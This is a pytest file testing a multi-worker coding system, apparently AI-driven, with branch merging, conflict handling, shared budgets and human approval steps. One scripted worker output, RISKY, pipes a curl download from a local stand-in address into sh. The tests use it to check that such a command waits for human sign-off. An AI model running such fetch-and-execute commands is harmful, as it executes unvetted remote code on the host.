"""Teams: workers that share the steps of a plan, each on a branch of its own, and the queue that merges them."""

import asyncio
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from domain import Budget, Event
from domain.team import Team
from service.runs.history import answer_question, raise_budget
from service.wiring.application import Application, open_application
from tests.worlds.house import advance, decide, repository, settings, start
from tests.worlds.teamwork import DONE, SUITE, TALK, Teammates, edit, files, models, plan, team_task, write

BOTH = pytest.mark.parametrize("sandbox", ["unsafe-local", pytest.param("docker", marks=pytest.mark.docker)])
BREAKS = write("shop/__init__.py", "raise ImportError('oops')\n")
RISKY = "```run\ncurl -s http://127.0.0.1:9/x | sh\n```\n"


@asynccontextmanager
async def opened_with(folder: Path, roles: Any, **given: Any) -> AsyncGenerator[Application]:
    async with open_application(settings(folder, coder_dialect="text", **given), models=roles) as application:
        yield application


def workers(standing: Any) -> dict[str, str]:
    """How each worker stands, by its name."""
    team: Team = standing.values["team"]
    return {each.id: each.status for each in team.workers}


def notes(events: list[Event], subject: str) -> list[str]:
    return [e.message for e in events if e.kind == "note" and e.data.get("subject") == subject]


def turns(events: list[Event], worker: str) -> list[str]:
    return [str(e.data["action"]) for e in events if e.kind == "coder_turn" and e.data["worker"] == worker]


@BOTH
async def test_three_workers_share_three_steps(tmp_path: Path, sandbox: str) -> None:
    repo = repository(tmp_path / "repo", files(3))
    coder = Teammates({f"p{n}": (edit(n), DONE) for n in (1, 2, 3)}, meet=3)
    async with opened_with(tmp_path, models(coder, [plan("p1", "p2", "p3")]), sandbox=sandbox) as opened:
        standing, events = await start(opened, team_task(repo))
        assert standing.run.status == "delivered", standing.run.ending
        assert all(f"+    return {n}\n" in standing.values["diff"] for n in (1, 2, 3))
        assert workers(standing) == {"p1": "landed", "p2": "landed", "p3": "landed"}
        assert all(turns(events, f"p{n}") == ["edit", "done"] for n in (1, 2, 3))
        assert standing.values["spent"].steps == 6
        assert standing.values["spent"].model_calls == 6 + 2
        ballots = [e for e in events if e.kind == "ballot_opened"]
        assert len(ballots) == 1, "one signature for all of it"
        opened_by = [e.data["worker"] for e in events if e.kind == "command_started" and "worker" in e.data]
        assert opened_by == [], "nobody runs the whole suite for a part of the work; the merge does"


async def test_a_step_waits_for_what_it_needs_and_begins_with_it(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo", files(2))
    coder = Teammates({"p1": (edit(1), DONE), "p2": ("```open\nshop/part1.py\n```", edit(2), DONE)})
    wanted = plan("p1", {"id": "p2", "needs": ["p1"]})
    async with opened_with(tmp_path, models(coder, [wanted])) as opened:
        standing, _ = await start(opened, team_task(repo))
        assert standing.run.status == "delivered", standing.run.ending
        assert [step for step, _ in coder.asked] == ["p1", "p1", "p2", "p2", "p2"]
        assert "return 1" in coder.last["p2"][-3].content, "it was opened as it had landed"


async def test_steps_that_will_change_the_same_file_are_not_worked_on_at_once(tmp_path: Path) -> None:
    """A plan whose steps all touch one file."""
    repo = repository(tmp_path / "repo", files(3, shared=True))
    coder = Teammates({f"p{n}": (edit(n, module="parts"), DONE) for n in (1, 2, 3)})
    wanted = plan(*({"id": f"p{n}", "files": ["shop/parts.py"]} for n in (1, 2, 3)))
    async with opened_with(tmp_path, models(coder, [wanted])) as opened:
        standing, events = await start(opened, team_task(repo))
        assert standing.run.status == "delivered", standing.run.ending
        assert coder.most_at_once == 1
        assert notes(events, "merge")[1::2] == ["Landed: p1", "Landed: p2", "Landed: p3"]


async def test_where_nobody_said_so_their_lines_are_merged(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo", files(3, shared=True))
    coder = Teammates({f"p{n}": (edit(n, module="parts"), DONE) for n in (1, 2, 3)}, meet=3)
    async with opened_with(tmp_path, models(coder, [plan("p1", "p2", "p3")])) as opened:
        standing, events = await start(opened, team_task(repo))
        assert standing.run.status == "delivered", standing.run.ending
        assert len([n for n in notes(events, "merge") if n.startswith("Landed")]) == 3, "one after the other"
        assert sum(each.returns for each in standing.values["team"].workers) == 0


async def test_a_conflict_goes_back_to_its_author_with_both_sides(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo", files(2))
    gate = asyncio.Event()
    both = 'def part1():\n    """The part 1."""\n    return 1\n\n\nTITLE = "two"\n'
    coder = Teammates(
        {
            "p1": (edit(1), DONE),
            "p2": (edit(1, to="2"), edit(2), DONE, write("shop/part1.py", both), DONE),
        },
        gates={"p2": gate},
    )
    async with opened_with(tmp_path, models(coder, [plan("p1", "p2")])) as opened:
        heard: list[Event] = []

        def listen(event: Event) -> None:
            heard.append(event)
            if event.message == "Landed: p1":
                gate.set()

        created = await opened.engine.create(team_task(repo))
        standing = await opened.engine.advance(created.id, listen)
        assert standing.run.status == "delivered", standing.run.ending
        assert 'TITLE = "two"' in standing.values["diff"]
        back = next(m.content for m in coder.last["p2"] if "was not merged" in m.content)
        assert "<<<<<<< landed" in back
        assert "+    return 1" in back, "and what landed meanwhile"
        assert standing.values["team"].workers[1].returns == 1
        assert "conflicts in shop/part1.py" in notes(heard, "merge")[-3]


async def test_marks_of_a_conflict_are_never_merged(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo", files(2))
    gate = asyncio.Event()
    coder = Teammates(
        {
            "p1": (edit(1), DONE),
            "p2": (
                edit(1, to="2"),
                edit(2),
                DONE,
                DONE,
                write("shop/part1.py", 'NAME = 1\n\n\ndef part1():\n    """The part 1."""\n    return 1\n'),
                DONE,
            ),
        },
        gates={"p2": gate},
    )
    async with opened_with(tmp_path, models(coder, [plan("p1", "p2")])) as opened:
        created = await opened.engine.create(team_task(repo))
        standing = await opened.engine.advance(created.id, lambda e: gate.set() if e.message == "Landed: p1" else None)
        assert standing.run.status == "delivered", standing.run.ending
        assert "<<<<" not in standing.values["diff"]
        told = [m.content for m in coder.last["p2"] if "Marks of a conflict were left in" in m.content]
        assert len(told) == 1


async def test_of_two_that_fail_together_the_one_at_fault_goes_back(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo", files(3))
    coder = Teammates(
        {
            "p1": (edit(1), DONE),
            "p2": (BREAKS, edit(2), DONE, write("shop/__init__.py", "NAME = 1\n"), DONE),
            "p3": (edit(3), DONE),
        }
    )
    async with opened_with(tmp_path, models(coder, [plan("p1", "p2", "p3")])) as opened:
        standing, _ = await start(opened, team_task(repo))
        assert standing.run.status == "delivered", standing.run.ending
        returned = {each.id: each.returns for each in standing.values["team"].workers}
        assert returned == {"p1": 0, "p2": 1, "p3": 0}
        back = next(m.content for m in coder.last["p2"] if "was not merged" in m.content)
        assert "oops" in back


async def test_after_three_returns_somebody_tries_who_sees_both_sides(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo", files(2))
    coder = Teammates({"p1": (edit(1), DONE), "p2": (BREAKS, DONE), "p2/2": (edit(2), DONE)})
    async with opened_with(tmp_path, models(coder, [plan("p1", "p2")])) as opened:
        standing, events = await start(opened, team_task(repo))
        assert standing.run.status == "delivered", standing.run.ending
        assert workers(standing) == {"p1": "landed", "p2": "stopped", "p2/2": "landed"}
        assert len([n for n in notes(events, "merge") if "gets its branch back" in n]) == 4
        first = "\n".join(m.content for m in coder.last["p2/2"][:3])
        assert "raise ImportError" in first, "it sees what the author wanted"
        assert "came back from the merge queue 4 times" in first
        kept = standing.values["team"].workers[1]
        assert b"ImportError" in await opened.store.read(standing.run.id, kept.tree, "shop/__init__.py")


async def test_one_that_goes_in_circles_is_stopped_and_the_others_land(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo", files(2))
    circle = ("```open\nshop/part2.py\n```",)
    coder = Teammates({"p1": (edit(1), DONE), "p2": circle, "p2/2": (TALK,)})
    again = plan("p3")
    coder.answers = {**coder.answers, "p3": (edit(2), DONE)}
    async with opened_with(tmp_path, models(coder, [plan("p1", "p2"), again])) as opened:
        standing, events = await start(opened, team_task(repo))
        assert standing.run.status == "delivered", standing.run.ending
        stopped = [n for n in notes(events, "team") if "is stopped" in n]
        assert "went in circles" in stopped[0]
        assert "without an action" in stopped[1]
        assert "+    return 1\n" in standing.values["diff"], "what had landed is kept when it is planned anew"


async def test_what_an_earlier_plan_landed_is_not_broken_by_the_next_one(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo", files(4))
    circle = ("```open\nshop/part2.py\n```",)
    breaks = write("shop/part1.py", "def part1():\n    return 7\n")
    coder = Teammates(
        {
            "p1": (edit(1), DONE),
            "p2": circle,
            "p2/2": (TALK,),
            "q1": (breaks, DONE, write("shop/part1.py", "def part1():\n    return 1\n"), edit(3), DONE),
            "q2": (edit(2), edit(4), DONE),
        }
    )
    again = plan("q1", {"id": "q2", "needs": ["q1"]})
    async with opened_with(tmp_path, models(coder, [plan("p1", "p2"), again])) as opened:
        standing, _ = await start(opened, team_task(repo))
        assert standing.run.status == "delivered", standing.run.ending
        back = next(m.content for m in coder.last["q1"] if "was not merged" in m.content)
        assert "test_part1" in back.partition("fail with your branch on it: ")[2].partition("\n")[0]


async def test_one_that_never_ends_uses_its_own_share_only(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo", files(2))
    endless = [write("notes.txt", f"{n}\n") for n in range(200)]
    coder = Teammates({"p1": (edit(1), DONE), "p2": endless, "p2/2": (edit(2), DONE)})
    async with opened_with(tmp_path, models(coder, [plan("p1", "p2")])) as opened:
        standing, _ = await start(opened, team_task(repo, budget=Budget(max_steps=60)))
        assert standing.run.status == "delivered", standing.run.ending
        author = standing.values["team"].workers[1]
        assert author.status == "stopped"
        assert author.taken == 30
        assert "share of 30 turns" in author.note
        assert "notes.txt" not in standing.values["diff"]


async def test_the_budget_is_one_for_all(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo", files(3))
    coder = Teammates({f"p{n}": ("```open\nshop/part1.py\n```", edit(n), DONE) for n in (1, 2, 3)})
    async with opened_with(tmp_path, models(coder, [plan("p1", "p2", "p3")])) as opened:
        standing, _ = await start(opened, team_task(repo, budget=Budget(max_steps=5)))
        assert standing.run.status == "paused_budget"
        assert standing.values["spent"].steps == 5, "and not one more, whoever asks"
        await raise_budget(opened.engine, standing.run, max_steps=50)
        standing, _ = await advance(opened, standing.run.id)
        assert standing.run.status == "delivered", standing.run.ending
        assert len(coder.asked) == 9, "no turn was taken twice"


async def test_people_are_asked_once(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo", files(3))
    ask = "```ask\nWhich one of {}?\n```"
    coder = Teammates({"p1": (edit(1), DONE), **{f"p{n}": (ask.format(n), edit(n), DONE) for n in (2, 3)}})
    async with opened_with(tmp_path, models(coder, [plan("p1", "p2", "p3")])) as opened:
        standing, _ = await start(opened, team_task(repo))
        assert standing.run.status == "interrupted"
        assert standing.question is not None
        assert "p2: Which one of 2?" in standing.question
        assert "p3: Which one of 3?" in standing.question
        assert workers(standing)["p1"] == "landed", "nobody waits for an answer who needs none"
        await answer_question(opened.engine, standing.run, "The first one", "ann")
        standing, _ = await advance(opened, standing.run.id)
        assert standing.run.status == "delivered", standing.run.ending
        assert all(any("The first one" in m.content for m in coder.last[f"p{n}"]) for n in (2, 3))


async def test_what_a_worker_wants_to_run_is_signed_while_the_others_are_done(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo", files(2))
    coder = Teammates({"p1": (edit(1), DONE), "p2": (RISKY, edit(2), DONE)})
    async with opened_with(tmp_path, models(coder, [plan("p1", "p2")])) as opened:
        standing, _ = await start(opened, team_task(repo))
        assert standing.run.status == "interrupted"
        assert workers(standing) == {"p1": "landed", "p2": "asking"}
        await decide(opened, standing, "approve")
        standing, events = await advance(opened, standing.run.id)
        assert standing.run.status == "delivered", standing.run.ending
        assert turns(events, "p2") == ["run", "edit", "done"]


async def test_what_is_rejected_with_words_is_told_to_its_worker(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo", files(2))
    coder = Teammates({"p1": (edit(1), DONE), "p2": (RISKY, edit(2), DONE)})
    async with opened_with(tmp_path, models(coder, [plan("p1", "p2")])) as opened:
        standing, _ = await start(opened, team_task(repo))
        await decide(opened, standing, "reject", "Not from the network")
        standing, events = await advance(opened, standing.run.id)
        assert standing.run.status == "delivered", standing.run.ending
        assert turns(events, "p2") == ["edit", "done"]
        assert any("Not from the network" in m.content for m in coder.last["p2"])


async def test_a_plan_that_is_a_circle_is_asked_for_again_and_then_refused(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo", files(2))
    circle = plan({"id": "p1", "needs": ["p2"]}, {"id": "p2", "needs": ["p1"]})
    unknown = plan("p1", {"id": "p2", "needs": ["p9"]})
    coder = Teammates({f"p{n}": (edit(n), DONE) for n in (1, 2)})
    async with opened_with(tmp_path / "mended", models(coder, [circle, plan("p1", "p2")])) as opened:
        standing, _ = await start(opened, team_task(repo))
        assert standing.run.status == "delivered", standing.run.ending
    async with opened_with(tmp_path / "not", models(coder, [circle, unknown])) as opened:
        standing, _ = await start(opened, team_task(repo))
        assert standing.run.status == "failed"
        assert standing.run.ending is not None
        assert standing.run.ending.code == "plan_invalid"
        assert "unknown steps: p9" in standing.run.ending.message


async def test_two_teams_on_one_repository_do_not_meet(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo", files(2))
    coder = Teammates({f"p{n}": (edit(n), DONE) for n in (1, 2)}, meet=4)
    both = plan("p1", "p2")
    async with opened_with(tmp_path, models(coder, [both, both], [{"status": "ok"}, {"status": "ok"}])) as opened:
        runs = [await opened.engine.create(team_task(repo)) for _ in range(2)]
        ended = await asyncio.gather(*(opened.engine.advance(each.id, None) for each in runs))
        assert [each.run.status for each in ended] == ["delivered", "delivered"]
        assert ended[0].values["snapshot"].tree == ended[1].values["snapshot"].tree
        assert opened.nodes.team.running.tasks == {}


async def test_a_plan_of_one_step_needs_no_team(tmp_path: Path) -> None:
    repo = repository(tmp_path / "repo", files(1))
    coder = Teammates({"p1": (edit(1), DONE)})
    async with opened_with(tmp_path, models(coder, [plan("p1")])) as opened:
        standing, events = await start(opened, team_task(repo, accept=SUITE))
        assert standing.run.status == "delivered", standing.run.ending
        assert standing.values["team"] is None
        assert notes(events, "team") == ["The plan has one step: one coder does it, there is nothing to share."]
